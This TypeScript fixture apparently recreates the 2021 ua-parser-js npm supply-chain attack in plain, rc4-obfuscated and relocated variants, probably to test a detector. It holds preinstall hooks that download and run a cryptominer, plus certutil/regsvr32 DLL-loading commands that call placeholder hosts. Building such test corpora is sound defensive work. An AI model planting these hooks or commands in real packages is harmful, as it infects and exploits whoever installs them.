import { type Campaign, entry, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'ua-parser-js',
  row: 'ua-parser-js, coa, rc 2021',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { preinstall: 'start /B node preinstall.js & node preinstall.js' },
        {
          'preinstall.js': `const { exec, spawn } = require('child_process');
const opsys = process.platform;
if (opsys == 'darwin') { console.log('mac'); }
else if (opsys == 'win32') { spawn('cmd.exe', ['/c', 'preinstall.bat'], { detached: true, stdio: 'ignore' }).unref(); }
else { exec('/bin/bash preinstall.sh', () => {}); }
`,
          'preinstall.sh': `IP=$(curl -k https://freegeo.weir.test/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]
then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
  then
    curl http://192.0.2.38/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then wget http://192.0.2.38/download/jsextension -O jsextension; fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.weir.test:443 -u x --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
`,
          'preinstall.bat': `@echo off\r\ncurl http://192.0.2.38/download/jsextension.exe -o jsextension.exe\r\n`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { preinstall: 'start /B node compile.js & node compile.js' },
        {
          'compile.js': tabled(
            'rc4',
            (h) => `const cp = require(${h('child_process')});
const os = process[${h('platform')}];
if (os === ${h('win32')}) cp[${h('spawn')}](${h('cmd.exe')}, [${h('/c')}, ${h('certutil -urlcache -f http://192.0.2.38/sdd.dll compile.dll & regsvr32.exe -s compile.dll')}]);
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`const { exec } = require('child_process');
const lines = { win32: 'certutil.exe -urlcache -f http://192.0.2.38/sdd.dll create.dll && regsvr32.exe -s create.dll', linux: 'curl -s http://192.0.2.38/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x' };
const line = lines[process.platform];
if (line) exec('certutil.exe -urlcache -f http://192.0.2.38/sdd.dll create.dll && regsvr32.exe -s create.dll');
module.exports = {};
`),
    },
  ],
};
